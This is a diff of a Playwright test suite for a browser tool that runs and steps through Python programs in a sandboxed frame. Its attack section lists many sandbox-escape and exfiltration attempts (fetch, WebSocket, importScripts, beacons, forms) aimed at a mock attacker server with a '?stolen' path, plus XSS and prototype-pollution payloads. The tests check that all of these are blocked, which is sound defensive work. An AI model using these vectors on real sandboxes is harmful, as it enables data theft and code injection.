@@ -8,19 +8,39 @@ from axe import violations
 from links import SCRIPT, deflated, zeros
 from playwright.sync_api import expect
 from run_page import RunPage, write_site
-from screens import DESK, PHONE
-from serving import Quiet, blocked, folder_served
-from walk_page import Walk
+from screens import CUT, DESK, PHONE, TABLET
+from serving import LIMIT, Quiet, blocked, folder_served
+from walk_page import ASKEW, HIDDEN, MEETING, SIZES, Walk
 
 from tools.site import run_page
 
 FACT = "def fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\n\nprint(fact(3))\n"
+TREE = "class Node:\n    def __init__(self, value, below=None):\n        self.value, self.below = value, below\n\ntop = Node(7, Node(5))\n"
 DEEP = "def f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\n\nprint(f(900))\n"
 ENDLESS = "def f(n):\n    return f(n + 1)\n\nf(0)\n"
 IN_C = "class A:\n    def __lt__(self, other):\n        return sorted([A(), A()])\n\nsorted([A(), A()])\n"
 FOR_EVER = "sum(range(10**12))\n"
 NO_WALK = "What Python sent is no walk"
 BROKE = "Python itself broke down"
+
+
+class Heard(Quiet):
+    """A server of the attacker: each request that arrives is noted."""
+
+    arrived = []  # noqa: RUF012
+
+    def do_GET(self):
+        self.arrived.append(self.path)
+        self.send_error(404)
+
+
+class Noted(Quiet):
+    """The site: requests of an attack are noted."""
+
+    def do_GET(self):
+        if "stolen" in self.path:
+            Heard.arrived.append(self.path)
+        super().do_GET()
 
 
 @pytest.fixture(scope="module")
@@ -35,17 +55,18 @@ def site(tmp_path_factory, needs_chromium):
 
 @pytest.fixture(scope="module")
 def served(site):
-    with folder_served(site.parent) as address:  # under a path, as a project's site is
+    with folder_served(site.parent, Noted) as address:  # under a path, as a project's site is
         yield f"{address}/{site.name}"
 
 
 @pytest.fixture(scope="module")
-def open_run(browser, served):
+def open_run(browser, browser_with, served):
     """Factory for pages of their own; nothing but the site may be requested, and there are no errors."""
     errors, dialogs, contexts = [], [], []
 
-    def open_run(fragment="", size=DESK, **options):
-        context = browser.new_context(viewport=size, **options)
+    def open_run(fragment="", size=DESK, font=None, **options):
+        one = browser_with(font) if font else browser
+        context = one.new_context(viewport=size, **options)
         contexts.append((context, blocked(context, served)))
         page = context.new_page()
         page.on("pageerror", lambda error: errors.append(str(error)))
@@ -87,6 +108,13 @@ def test_a_program_runs_and_the_walk_has_the_keys_at_once(shared):
         assert violations(frame) == []
 
 
+def test_the_data_of_a_program_are_drawn(shared):
+    walk = shared.run(TREE)
+    walk.come_to(walk.last)
+    drawn = shared.frame.locator("#book .board.own > svg").first  # marks are in a second one
+    assert drawn.get_by_text("7", exact=True).bounding_box()["width"] > 0
+
+
 def test_a_changed_program_is_said_to_have_changed(shared):
     shared.run(FACT)
     shared.field.press("End")
@@ -121,6 +149,29 @@ def test_900_calls_deep_works_and_a_recursion_error_is_part_of_the_walk(shared):
         walk = shared.run(program)
         walk.come_to(walk.last)
         walk.says(words)
+
+
+def test_the_policy_refuses_nothing_of_the_page_and_the_walk_leaves_the_field_its_keys(open_run):
+    page = open_run()
+    walk = page.run()
+    walk.key("End", "Home", "ArrowRight")
+    page.field.press("ControlOrMeta+Home")
+    page.page.keyboard.type("x = 1 ")
+    expect(page.field).to_contain_text("x = 1")
+    walk.at(1)
+    page.button("Run and step").click()
+    page.says("Line 1")
+    colour = "(e) => getComputedStyle(e).color"
+    word, body = page.field.get_by_text("def", exact=True).first, page.frame.locator("body")
+    assert word.evaluate(colour) != body.evaluate(colour)
+    page.field.press("ControlOrMeta+a")  # a selection that is replaced
+    page.page.keyboard.type("y = 2\nif y:\nz = 3")
+    expect(page.frame.locator(".cm-content")).to_have_text("y = 2if y:    z = 3")
+    page.field.press("ControlOrMeta+a")
+    page.page.keyboard.insert_text(FACT)
+    page.run().at(0)
+    assert [words for words in page.console if "Security Policy" in words] == []
+    page.page.context.close()
 
 
 # ---- it always ends ------------------------------------------------------------------------------
@@ -189,14 +240,21 @@ def test_a_link_shows_the_program_and_runs_it_at_its_step_only_when_run_is_press
         "1." + deflated('{"__proto__": {"program": "x"}}'),
         f"1.{zeros(20 * 2**20)}",
         "1." + "A" * 1_000_000,
+        f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}.{'9' * 30}",
+        f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}.-1",
+        f"1.{deflated(json.dumps({'program': 'x', 'answers': ['1']}))}",
+        "1.javascript:alert(1)",
     ],
-    ids=range(10),
+    ids=range(14),
 )
-def test_a_link_that_holds_no_program_says_so(open_run, fragment):
-    page = open_run(f"#{fragment}")
-    page.says("link" if "<" not in fragment else "link is broken")
-    expect(page.field).to_contain_text("fact")
-    page.page.context.close()
+def test_a_link_that_holds_no_program_says_so(shared, fragment):
+    """The page passes it to its frame as when it is loaded, but Python is not started again."""
+    tell = "(fragment) => frames[0].postMessage({ fragment }, '*')"
+    shared.page.evaluate(tell, f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}")
+    shared.says("came with the link")
+    shared.page.evaluate(tell, fragment)
+    shared.says("This link is broken" if "<" in fragment else "This link")
+    expect(shared.field).to_contain_text("fact")
 
 
 def test_the_downloaded_walk_opens_from_a_disk_and_is_only_text(shared, browser, tmp_path):
@@ -223,44 +281,157 @@ def test_one_file_opens_from_a_disk(browser, site):
     page.page.close()
 
 
+WIDER = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
+
+
 def test_on_a_phone_the_field_is_above_the_walk_and_nothing_is_wider_than_the_page(open_run):
     page = open_run(size=PHONE, has_touch=True)
     walk = page.run(f"{FACT}x = {'1' * 200!r}\n")
     field, book = page.field.bounding_box(), walk.root.bounding_box()
     assert field["y"] + field["height"] <= book["y"] or field["y"] < book["y"]
     for frame in page.page.frames:
-        wide = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
-        assert frame.evaluate(wide) <= 0
+        assert frame.evaluate(WIDER) <= 0
+
+
+# rows of the stack that are on others
+STACKED = """(root) => {
+    const rows = [...root.querySelectorAll('.stack > :is(.card, .rest)')].map((row) => row.getBoundingClientRect());
+    const meet = (a, b) => a.top < b.bottom - 1 && b.top < a.bottom - 1;
+    return rows.filter((row, n) => rows.slice(n + 1).some((other) => meet(row, other)));
+}"""
+FOLDED = "def f(n, row):\n    row.append(n)\n    twice = 2 * n\n    return twice if n == 0 else twice + f(n - 1, row)\n\nprint(f(4, []))\n"
+PROJECTOR = dict(zip(("width", "height"), SIZES["projector"], strict=True))
+
+
+@pytest.mark.parametrize("font", ["DejaVu", pytest.param("Liberation", marks=pytest.mark.slow)])
+def test_nothing_overlaps_or_is_cut_at_any_size(open_run, font):
+    page = open_run(font=font)
+    page.run(FOLDED)
+    for size in (DESK, TABLET, PROJECTOR, PHONE):
+        page.page.set_viewport_size(size)
+        walk = page.run()
+        for step in (0, walk.last // 2, walk.last):
+            walk.come_to(step)
+            for frame in page.page.frames:
+                assert frame.evaluate(WIDER) <= 0
+            for faults in (STACKED, ASKEW, HIDDEN, CUT, MEETING):
+                assert walk.root.evaluate(faults) == [], (size, step)
+    page.page.context.close()
 
 
 # ---- attacks -------------------------------------------------------------------------------------
 
-# what a program tries in its worker, where it can use JavaScript through Pyodide
+# How a program tries to reach an address from its worker, where it can use JavaScript through Pyodide.
+IN_WORKER = {
+    "fetch": "js.fetch(url)",
+    "the browser's own fetch": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url)",
+    "kept alive": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url, js.JSON.parse('{\"keepalive\":true}'))",
+    "a request": "js.WorkerGlobalScope.prototype.fetch.call(js.self, js.Request.new(url))",
+    "the shim removed": "js.Reflect.deleteProperty(js.self, 'fetch') and js.fetch(url)",
+    "XMLHttpRequest": "xhr(url, False)",
+    "XMLHttpRequest, later": "xhr(url, True)",
+    "EventSource": "js.EventSource.new(url)",
+    "WebSocket": "js.WebSocket.new(url.replace('http', 'ws'))",
+    "WebSocketStream": "js.WebSocketStream.new(url.replace('http', 'ws'))",
+    "WebTransport": "js.WebTransport.new(url.replace('http:', 'https:'))",
+    "sendBeacon": "js.navigator.sendBeacon(url)",
+    "importScripts": "js.importScripts(url)",
+    "importScripts of a blob": "js.importScripts(blob(f'importScripts({url!r})'))",
+    "import, evaluated": "js.eval(f'import({url!r})')",
+    "import in a function": "js.Function.new(f'return import({url!r})')()",
+    "import in a blob": "pyodide.code.run_js(f'import({url!r})')",
+    "module of a blob": "js.Worker.new(blob(f'import {url!r}'), js.JSON.parse('{\"type\":\"module\"}'))",
+    "worker": "js.Worker.new(url)",
+    "worker of a blob": "js.Worker.new(blob(f'fetch({url!r}); importScripts({url!r})'))",
+    "worker of data": "js.Worker.new('data:text/javascript,fetch(' + repr(url) + ')')",
+    "shared worker": "js.SharedWorker.new(url)",
+    "service worker": "js.navigator.serviceWorker.register(url)",
+    "font": "js.FontFace.new('x', f'url({url})').load()",
+    "navigation": "setattr(js.location, 'href', url)",
+    "compiled": "js.WebAssembly.compileStreaming(js.WorkerGlobalScope.prototype.fetch.call(js.self, url))",
+    "cached": "js.caches.open('x').then(lambda cache: cache.add(url))",
+    "urllib": "module('urllib.request').urlopen(url)",
+    "http": "module('http.client').HTTPConnection(url.split('/')[2]).request('GET', '/?http')",
+    "socket": "module('socket').create_connection(url.split('/')[2].split(':'), timeout=1)",
+    "pyfetch": "module('pyodide.http').pyfetch(url).send(None)",
+    "open_url": "module('pyodide.http').open_url(url)",
+    "a package": "pyodide_js.loadPackage(url)",
+    "a database": "js.indexedDB.open('x')",
+    "a folder": "js.navigator.storage.getDirectory()",
+    "other tabs": "js.BroadcastChannel.new('x').postMessage(url)",
+}
 REQUESTS = """
-import js, urllib.request
-from pyodide.ffi import create_proxy
-def xhr(url):
+import js, pyodide.code, pyodide_js
+from importlib import import_module as module
+def xhr(url, is_later):
     one = js.XMLHttpRequest.new()
-    one.open("GET", url, False)
+    one.open("GET", url, is_later)
     one.send()
-tries = [
-    js.fetch, xhr, js.EventSource.new, js.importScripts, js.Worker.new, urllib.request.urlopen,
-    lambda url: js.WebSocket.new(url.replace("http", "ws")),
-    lambda url: js.eval(f"import('{url}')"),
-    lambda url: js.Function.new(f"return import('{url}')")(),
-    lambda url: js.Worker.new(js.URL.createObjectURL(js.Blob.new([f"fetch('{url}'); importScripts('{url}')"]))),
-    lambda url: js.indexedDB.open("x"), lambda url: js.caches.open("x"),
-    lambda url: js.navigator.storage.getDirectory(),
-]
-done = 0
-for one in tries:
-    for url in URLS:
-        try:
-            one(url)
-            done += 1
-        except BaseException as error:
-            pass
+def blob(text):
+    return js.URL.createObjectURL(js.Blob.new([text]))
+for text in tries:
+    try:
+        eval(text)
+    except BaseException:
+        pass
 """
+# How a script tries it in the frame, if it could ever run there; those of the first table have to raise an error.
+REFUSED_IN_FRAME = {
+    "fetch": "fetch(url)",
+    "top navigation": "top.location = url",
+    "a window": "open(url).document",
+    "the page around": "parent.document",
+    "storage": "localStorage.x",
+    "storage of a session": "sessionStorage.x",
+    "database": "indexedDB.open('x')",
+    "cookie": "document.cookie",
+    "caches": "caches.open('x')",
+    "service worker": "navigator.serviceWorker.register(url)",
+    "clipboard": "navigator.clipboard.readText()",
+}
+IN_FRAME = {
+    "beacon": "navigator.sendBeacon(url)",
+    "image": "new Image().src = url",
+    "WebSocket": "new WebSocket(url.replace('http', 'ws'))",
+    "EventSource": "new EventSource(url)",
+    "worker": "new Worker(url)",
+    "module": "add('script', { type: 'module', src: url })",
+    "script": "add('script', { src: url })",
+    "inline script": "add('script', { textContent: `fetch('${url}')` })",
+    "style sheet": "add('link', { rel: 'stylesheet', href: url })",
+    "imported style": "add('style', { textContent: `@import '${url}'` })",
+    "style attribute": "add('p', {}).setAttribute('style', `background: url(${url})`)",
+    "font": "new FontFace('x', `url(${url})`).load()",
+    "frame": "add('iframe', { src: url })",
+    "object": "add('object', { data: url })",
+    "video": "add('video', { src: url })",
+    "prefetch": "add('link', { rel: 'prefetch', href: url })",
+    "preload": "add('link', { rel: 'preload', as: 'image', href: url })",
+    "form": "add('form', { action: url }).submit()",
+    "link": "add('a', { href: url, target: '_top' }).click()",
+    "ping": "add('a', { href: '#', ping: url }).click()",
+    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` })",
+    "base": "add('base', { href: url })",
+}
+TRY = """async (url) => {
+    const add = (name, given) => {
+        const one = Object.assign(document.createElement(name), given);
+        document.body.append(one);
+        return one;
+    };
+    const failed = [];
+    for (const [name, act] of Object.entries({ACTS}))
+        try { await act() } catch { failed.push(name) }
+    return failed;
+}"""
+
+
+def tried(frame, acts, url):
+    """Try *acts* in a frame, each an expression of `url` and `add`; return the names of those that failed."""
+    table = ", ".join(f"{json.dumps(name)}: () => {act}" for name, act in acts.items())
+    return frame.evaluate(TRY.replace("{ACTS}", f"{{ {table} }}"), url)
+
+
 FORGED = [
     'js.postMessage(\'{"kind":"walk"}\')',
     'js.postMessage(\'{"kind":"walk","cover":{"__proto__":{"polluted":1}},"first":{}}\')',
@@ -273,6 +444,7 @@ FORGED = [
     "json.dumps = lambda *a, **k: 3",
     "json.loads = lambda *a, **k: 3",
     "js.postMessage(json.dumps(forged(boards=['<iframe src=https://evil.example>'])))",
+    "js.postMessage(json.dumps(forged(boards=['<svg><image href=https://evil.example />'])))",
     "js.postMessage(json.dumps(forged(pages=[[0, 0, 0, 0, [7], 0, 0, [], 0, 0, 0]])))",
     "js.postMessage(json.dumps(forged(texts=[['<img src=x onerror=alert(1)>']] * 9)))",
 ]
@@ -280,46 +452,32 @@ FORGE = """
 import js, json
 def forged(**changed):
     cover = {"name": "x", "last": 0, "until": 0, "events": "c", "depths": [1], "first": [0], "ends": [0]}
-    cover |= {"parents": [-1], "widest": 9, "levels": 9, "rows": 9, "yields": [], "prints": True}
+    cover |= {"parents": [-1], "widest": 9, "levels": 9, "rows": 9, "yields": [], "constructors": []}
+    cover |= {"prints": True, "board": [9, 9]}
     names = ("pages", "calls", "results", "texts", "sources", "cards", "moves", "boards")
     first = {"first": 0, "callsFrom": 0, "endsFrom": 0} | {name: [] for name in names} | changed
     return {"kind": "walk", "cover": cover, "first": first, "show": ["board", "source"], "note": ""}
 """
 
 
-class Heard(Quiet):
-    """A server of the attacker: each request that arrives is noted."""
-
-    arrived = []  # noqa: RUF012
-
-    def do_GET(self):
-        self.arrived.append(self.path)
-        self.send_error(404)
-
-
-def test_a_program_reaches_neither_another_server_nor_the_site_nor_a_storage(shared, served, site):
+def test_a_program_reaches_neither_another_server_nor_the_site_nor_a_storage(
+    open_run, served, site
+):
+    page = open_run()
     with folder_served(site, Heard) as evil:
-        walk = shared.run(f"URLS = [{evil!r} + '/?stolen', {served + '/run.html'!r}]\n{REQUESTS}")
-        walk.come_to(walk.last)
-        walk.says("program.py ends")
-        shared.page.wait_for_timeout(500)
-        assert Heard.arrived == []
-        frame = shared.page.frames[-1]
-        tries = """async (url) => {
-            const refused = [];
-            for (const act of [
-                () => fetch(url), () => { top.location = url }, () => localStorage.x, () => indexedDB.open('x'),
-                () => document.cookie, () => parent.document, () => open(url).document,
-            ]) try { await act(); refused.push(false) } catch { refused.push(true) }
-            new Image().src = url;
-            navigator.sendBeacon(url);
-            return refused;
-        }"""
-        assert frame.evaluate(tries, evil) == [True] * 7
-        assert Heard.arrived == []
-    shared.errors.clear()  # of what was refused in the worker
-    assert shared.page.locator("#run-frame").get_attribute("sandbox") == "allow-scripts"
-    assert shared.page.evaluate("() => frames.length") == 1
+        for url in f"{evil}/?stolen", f"{served}/run.html?stolen":
+            tries = [*IN_WORKER.values()]
+            walk = page.run(f"url, tries = {url!r}, {tries}\nexec({REQUESTS!r})")
+            walk.come_to(walk.last)
+            walk.says("program.py ends")
+        frame = page.page.frames[-1]
+        assert tried(frame, REFUSED_IN_FRAME, evil) == [*REFUSED_IN_FRAME]
+        tried(frame, IN_FRAME, evil)
+        page.page.wait_for_timeout(500)
+    assert Heard.arrived == []
+    assert page.page.locator("#run-frame").get_attribute("sandbox") == "allow-scripts"
+    page.errors.clear()  # of what was refused
+    page.page.context.close()
 
 
 def test_the_frame_cannot_be_led_elsewhere(open_run, site):
@@ -335,7 +493,7 @@ def test_the_frame_cannot_be_led_elsewhere(open_run, site):
 def test_forged_messages_change_nothing_outside_the_walk(shared):
     for line in FORGED:
         shared.start(f"{FORGE}\n{line}\n")
-        expect(shared.button("Run and step")).to_be_visible(timeout=30_000)
+        expect(shared.button("Run and step")).to_be_visible(timeout=LIMIT)
         for frame in shared.page.frames:
             assert frame.evaluate("() => ({}).polluted ?? null") is None
         assert shared.frame.locator("#book :is(img, iframe, script)").count() == 0
